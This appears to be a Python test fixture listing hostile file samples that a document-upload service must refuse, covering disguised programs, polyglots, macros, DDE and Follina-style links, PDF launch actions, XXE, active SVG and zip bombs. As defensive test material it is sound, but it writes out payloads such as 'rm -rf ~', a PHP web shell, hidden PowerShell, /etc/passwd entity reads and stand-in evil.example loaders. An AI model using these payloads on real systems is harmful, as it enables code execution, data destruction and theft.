"""Files that must be refused: programs in disguise, macros, bombs, two files in one, things that load or start others."""

import zipfile
from functools import partial
from io import BytesIO

from knowledge.documents.extraction.results import Reason, State
from tests.knowledge.documents import samples
from tests.samples import old_office, pdfs
from tests.samples.compound import compound
from tests.samples.model import Sample, refused
from tests.samples.ordinary import epub
from tests.samples.pdfs import SEEN, page, stream
from tests.samples.words import made

_EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
_LAUGHS = "<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>]><l>&c;</l>"

_PROGRAMS = [
    refused(name, partial(bytes, data), reason)
    for name, data, reason in (
        ("rechnung.docx", samples.executable(), Reason.EXECUTABLE),
        ("rechnung.pdf", b"\x7fELF\x02\x01\x01" + bytes(200), Reason.EXECUTABLE),
        ("plan.pdf", b"\xcf\xfa\xed\xfe" + bytes(100), Reason.EXECUTABLE),
        ("klasse.txt", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(80), Reason.EXECUTABLE),
        ("lies-mich.txt", b"#!/bin/sh\nrm -rf ~\n", Reason.EXECUTABLE),
        ("stapel.txt", b"@echo off\r\ndel /s /q c:\\\r\n", Reason.EXECUTABLE),
        ("skript.md", b"<?php system($_GET[0]); ?>", Reason.EXECUTABLE),
        ("verknuepfung.pdf", b"L\0\0\0\x01\x14\x02\0" + bytes(80), Reason.EXECUTABLE),
        ("anwendung.html", b"<html><hta:application id=x><script>new ActiveXObject('WScript.Shell')</script></html>", Reason.EXECUTABLE),
        ("adresse.txt", b"[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n", Reason.EXECUTABLE),
        ("schluessel.txt", b"Windows Registry Editor Version 5.00\r\n", Reason.EXECUTABLE),
        ("makro.txt", b'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc"', Reason.EXECUTABLE),
        ("befehl.txt", b"powershell -nop -w hidden -enc AAAA", Reason.EXECUTABLE),
        ("flash.pdf", b"CWS\x0a" + bytes(60), Reason.EXECUTABLE),
        ("satzung.pdf.exe", made("pdf", "de"), Reason.MISMATCH),
        ("satzung.docx.scr", made("docx", "de"), Reason.MISMATCH),
        ("virus.txt", _EICAR, Reason.INFECTED),
        ("leer.pdf", b"", Reason.EMPTY_FILE),
        ("leer.docx", b"", Reason.EMPTY_FILE),
    )
]  # fmt: skip

_DISGUISED = [
    refused(name, partial(bytes, data), reason)
    for name, data, reason in (
        ("seite.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>", Reason.MISMATCH),
        ("seite.docx", b"<html><body>x</body></html>", Reason.MISMATCH),
        ("tabelle.docx", made("xlsx", "de"), Reason.MISMATCH),
        ("bild.pdf", b"\x89PNG\r\n\x1a\n" + bytes(60), Reason.MISMATCH),
        ("text.pdf", b"nur Text", Reason.MISMATCH),
        ("satzung.jpg", made("pdf", "de"), Reason.MISMATCH),
        ("ordner.zip", samples.zipped({"a.txt": "a"}), Reason.ARCHIVE),
        ("ordner.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(60), Reason.ARCHIVE),
        ("ordner.rar", b"Rar!\x1a\x07\x01\0" + bytes(60), Reason.ARCHIVE),
        ("ordner.tar", bytes(257) + b"ustar\x0000" + bytes(300), Reason.ARCHIVE),
        ("ordner.gz", b"\x1f\x8b\x08" + bytes(60), Reason.ARCHIVE),
        ("daten.bin", bytes(range(256)) * 20, Reason.UNKNOWN_TYPE),
        ("daten.xml", b"<?xml version='1.0'?><a/>", Reason.UNKNOWN_TYPE),
    )
]


def _gif_jar() -> bytes:
    return b"GIF89a" + bytes(50) + samples.zipped({"Evil.class": "x"})


def _jpeg(tail: bytes) -> bytes:
    return pdfs.as_picture("de", "JPEG", quality=30) + tail


def _zip_with_comment() -> bytes:
    """A PDF that is also a zip: the archive's comment swallows the PDF's end."""
    inner = samples.zipped({"evil.txt": "x"})
    end = pdfs.written([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"], head=b"")
    return b"%PDF-1.4\n" + inner[:-2] + len(end).to_bytes(2, "little") + end


_TWO_IN_ONE = [
    refused("gifar.gif", _gif_jar, Reason.POLYGLOT),
    refused("foto-zip.jpg", lambda: _jpeg(samples.zipped({"a": "b"})), Reason.POLYGLOT),
    refused("foto-rar.jpg", lambda: _jpeg(b"Rar!\x1a\x07\x01\0" + bytes(40)), Reason.POLYGLOT),
    refused("foto-php.jpg", lambda: _jpeg(b"<?php system($_GET[0]); ?>"), Reason.POLYGLOT),
    refused("foto-html.png", lambda: pdfs.as_picture("de", "PNG") + b"<script>x</script>", Reason.POLYGLOT),
    refused("gif-js.gif", lambda: b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)", Reason.POLYGLOT),
    refused("pdf-zip.pdf", lambda: made("pdf", "de") + samples.zipped({"a": "b"}), Reason.POLYGLOT),
    refused("pdf-zip-kommentar.pdf", _zip_with_comment, Reason.POLYGLOT),
    refused("html-pdf.pdf", lambda: b"<html><!-- " + made("pdf", "de"), Reason.POLYGLOT),
    refused("pdf-html.pdf", lambda: made("pdf", "de") + b"\n<script>alert(1)</script>", Reason.POLYGLOT),
    refused("zip-pdf.docx", lambda: b"PK\x03\x04%PDF-1.4\n" + made("docx", "de"), Reason.POLYGLOT),
    refused("doppelt.docx", lambda: _doubled(), Reason.POLYGLOT),
    refused("ausbruch.docx", lambda: samples.changed("docx", "../../evil.xml", "<a/>"), Reason.POLYGLOT),
]


def _doubled() -> bytes:
    out = BytesIO(made("docx", "de"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/DOCUMENT.xml", "<a/>")
    return out.getvalue()


def _relation(kind: str, target: str) -> bytes:
    return samples.leading_outside(target, kind)


def _field(code: str) -> bytes:
    pieces = "".join(f"<w:r><w:instrText>{code[at : at + 4]}</w:instrText></w:r>" for at in range(0, len(code), 4))
    return samples.docx(f"<w:p>{pieces}</w:p><w:p>{samples.run('Text')}</w:p>")


def _native(name: str, body: bytes) -> bytes:
    """An OLE file that wraps a file of this name, as Office does for things dropped into a document."""
    data = b"\x02\0" + name.encode() + b"\0C:\\" + name.encode() + b"\0" + bytes(8) + body
    return compound({"\x01Ole10Native": len(data).to_bytes(4, "little") + data})


_MACROS = [
    refused("makro.docx", lambda: samples.changed("docx", "word/vbaProject.bin", b"x"), Reason.MACROS),
    refused("makro.docm", lambda: samples.changed("docx", "word/vbaProject.bin", b"x"), Reason.MACROS),
    refused("makro-umbenannt.xlsx", lambda: samples.changed("xlsx", "xl/andere/VBAPROJECT.BIN", b"x"), Reason.MACROS),
    refused("makro-typ.pptx", lambda: samples.changed("pptx", "[Content_Types].xml",
            '<Types><Override ContentType="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"/></Types>'), Reason.MACROS),
    refused("makro-ole.docx", lambda: samples.changed("docx", "word/other.dat", compound({"_VBA_PROJECT": b"x"}, storages=("VBA",))), Reason.MACROS),
    refused("excel4.xlsx", lambda: samples.changed("xlsx", "xl/macrosheets/sheet1.xml", "<m/>"), Reason.MACROS),
    refused("makro.odt", lambda: samples.changed("odt", "Basic/Standard/Module1.xml", "<m/>"), Reason.MACROS),
    refused("python.odt", lambda: samples.changed("odt", "Scripts/python/evil.py", "x"), Reason.MACROS),
    refused("ereignis.odt", lambda: samples.opendocument("text", '<office:event-listeners><event-listener href="vnd.sun.star.script:'
            'x.py$y?language=Python"/></office:event-listeners><text:p>x</text:p>'), Reason.MACROS),
    refused("makro.doc", lambda: compound({"WordDocument": b"x", "_VBA_PROJECT": b"x"}, storages=("Macros", "VBA")), Reason.MACROS),
    refused("makro.xls", lambda: compound({"Workbook": b"x", "_VBA_PROJECT": b"x"}, storages=("_VBA_PROJECT_CUR",)), Reason.MACROS),
    refused("excel4.xls", lambda: old_office.xls([("M", 1, [["=EXEC()"]])], kind=1), Reason.MACROS),
]  # fmt: skip

_STARTING = [
    refused("vorlage.docx", lambda: _relation("attachedTemplate", "https://evil.example/x.dotm"), Reason.REMOTE_TEMPLATE),
    refused("vorlage-unc.docx", lambda: _relation("attachedTemplate", "file://evil.example/share/x.dotm"), Reason.REMOTE_TEMPLATE),
    refused("follina.docx", lambda: _relation("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"), Reason.LAUNCHES),
    refused("follina2.docx", lambda: _relation("oleObject", "http://evil.example/x.html!"), Reason.LAUNCHES),
    refused("dde.docx", lambda: _field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc"), Reason.LAUNCHES),
    refused("dde.xlsx", lambda: samples.changed("xlsx", "xl/externalLinks/externalLink1.xml",
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'), Reason.LAUNCHES),
    refused("makro-innen.docx", lambda: samples.changed("docx", "word/c.docx", samples.changed("docx", "word/vbaProject.bin", b"x")), Reason.MACROS),
    refused("dde.ods", lambda: samples.opendocument("spreadsheet", '<table:table table:name="A"><table:table-row><table:table-cell '
            'table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></table:table-row></table:table>'), Reason.LAUNCHES),
    refused("programm.docx", lambda: samples.changed("docx", "word/embeddings/oleObject1.bin", _native("x.exe", b"MZ\x90\0")), Reason.EMBEDDED_PROGRAM),
    refused("programm2.docx", lambda: samples.changed("docx", "word/embeddings/data.bin", samples.executable()), Reason.EMBEDDED_PROGRAM),
    refused("programm-als-bild.docx", lambda: samples.changed("docx", "word/media/image1.png", samples.executable()), Reason.EMBEDDED_PROGRAM),
    refused("archiv.docx", lambda: samples.changed("docx", "word/embeddings/a.bin", samples.zipped({"a.zip": samples.zipped({"b": "c"})})), Reason.ARCHIVE),
    refused("virus.docx", lambda: samples.changed("docx", "word/embeddings/a.bin", _EICAR), Reason.INFECTED),
    refused("start.pdf", lambda: page(SEEN, catalogue=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), Reason.LAUNCHES),
    refused("start-verschleiert.pdf", lambda: page(SEEN, catalogue=b"/OpenAction << /S /L#61unch /F (calc.exe) >>"), Reason.LAUNCHES),
    refused("start-gepackt.pdf", lambda: page(SEEN, further=[_object_stream(b"<< /S /Launch /F (calc.exe) >>")]), Reason.LAUNCHES),
    refused("angriff.pdf", lambda: page(SEEN, catalogue=b"/OpenAction << /S /JavaScript /JS 6 0 R >>",
            further=[stream(b"util.printf('%45000f', 1); Collab.collectEmailInfo({msg: x});", packed=True)]), Reason.LAUNCHES),
    refused("anhang.pdf", lambda: page(SEEN, catalogue=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
            further=[b"<< /Type /Filespec /F (rechnung.exe) /EF << /F 7 0 R >> >>", stream(b"harmlos", b"/Type /EmbeddedFile")]), Reason.EMBEDDED_PROGRAM),
    refused("anhang-umbenannt.pdf", lambda: page(SEEN, further=[b"<< /Type /Filespec /F (a.txt) /EF << /F 7 0 R >> >>",
            stream(samples.executable(), b"/Type /EmbeddedFile", packed=True)]), Reason.EMBEDDED_PROGRAM),
    refused("vorlage.rtf", lambda: rb"{\rtf1{\*\template http://evil.example/x.dotm}x}", Reason.REMOTE_TEMPLATE),
    refused("dde.rtf", lambda: rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd.exe /k calc}{\fldrslt x}}}", Reason.LAUNCHES),
    refused("formel.rtf", lambda: rb"{\rtf1{\object{\*\objclass x}{\*\objdata 0105000002000000" + b"Equation.3\0".hex().encode() + b"}}}", Reason.LAUNCHES),
    refused("programm.rtf", lambda: rb"{\rtf1{\object{\*\objdata 01050000" + b"Package\0x.exe\0C:\\x.exe\0MZ\x90\0".hex().encode() + b"}}}", Reason.EMBEDDED_PROGRAM),
    refused("nachladen.rtf", lambda: rb"{\rtf1{\object\objupdate{\*\objdata 01050000" + "http://evil.example/x".encode("utf-16-le").hex().encode() + b"}}}", Reason.LAUNCHES),
]  # fmt: skip


def _object_stream(body: bytes) -> bytes:
    return stream(b"9 0 " + body, b"/Type /ObjStm /N 1 /First 4", packed=True)


_XML = [
    refused("xxe.docx", lambda: samples.changed("docx", "word/document.xml", samples.DTD + "<d>&x;</d>"), Reason.XML_DTD),
    refused("xxe-rels.docx", lambda: samples.changed("docx", "word/_rels/document.xml.rels", samples.DTD + "<d>&x;</d>"), Reason.XML_DTD),
    refused("xxe-nebenteil.xlsx", lambda: samples.changed("xlsx", "customXml/item1.xml", samples.DTD.encode("utf-16")), Reason.XML_DTD),
    refused("lachen.odt", lambda: samples.changed("odt", "content.xml", _LAUGHS), Reason.XML_DTD),
    refused("lachen.pptx", lambda: samples.changed("pptx", "docProps/core.xml", _LAUGHS), Reason.XML_DTD),
    refused("xxe.epub", lambda: epub(**{"OPS/b.xhtml": samples.DTD + "<d>&x;</d>"}), Reason.XML_DTD),
    refused("xxe-opf.epub", lambda: epub(**{"OPS/b.opf": samples.DTD + "<d>&x;</d>"}), Reason.XML_DTD),
    refused("xxe.xml", lambda: samples.DTD.encode() + b"<d>&x;</d>", Reason.XML_DTD),
    refused("xxe.svg", lambda: samples.DTD.encode() + samples.svg("<text>&x;</text>"), Reason.XML_DTD),
    refused("xmp.pdf", lambda: page(SEEN, further=[stream(b'<?xpacket begin=""?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
            b"/Type /Metadata /Subtype /XML")]), Reason.XML_DTD),
    refused("skript.svg", lambda: samples.svg("<script>alert(1)</script>"), Reason.ACTIVE_SVG),
    refused("laden.svg", lambda: samples.svg(attributes='onload="x()"'), Reason.ACTIVE_SVG),
    refused("fremd.svg", lambda: samples.svg("<foreignObject><iframe/></foreignObject>"), Reason.ACTIVE_SVG),
    refused("bezug.svg", lambda: samples.svg('<use href="https://evil.example/x#a"/>'), Reason.ACTIVE_SVG),
]  # fmt: skip


def _quine() -> bytes:
    """Two entries that share one block of compressed data, as the bombs that do not nest are made."""
    data = bytearray(samples.zipped({"word/a.xml": "x" * 500, "word/b.xml": "y" * 500}, stored=True))
    second = data.rindex(b"PK\x01\x02")
    data[second + 42 : second + 46] = (10).to_bytes(4, "little")
    return bytes(data)


def _lying_size() -> bytes:
    """A part that says it is small and unpacks to 200 MB."""
    data = bytearray(
        samples.zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": b"<a>" + b" " * 200_000_000})
    )
    for mark, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = data.rindex(mark)
        data[place + at : place + at + 4] = (1_000).to_bytes(4, "little")
    return bytes(data)


_BOMBS = [
    refused("bombe.docx", samples.bomb, Reason.ZIP_BOMB),
    refused("ueberlappt.docx", _quine, Reason.ZIP_BOMB),
    refused(
        "bombe-innen.xlsx", lambda: samples.changed("xlsx", "xl/embeddings/a.bin", samples.bomb()), Reason.ZIP_BOMB
    ),
    refused("riesig.png", pdfs.vast_png, Reason.PICTURE_BOMB),
    refused("kommentar.png", pdfs.text_chunk_bomb, Reason.PICTURE_BOMB),
    Sample("luege.docx", _lying_size, State.FAILED),
]

HOSTILE: list[Sample] = [*_PROGRAMS, *_DISGUISED, *_TWO_IN_ONE, *_MACROS, *_STARTING, *_XML, *_BOMBS]
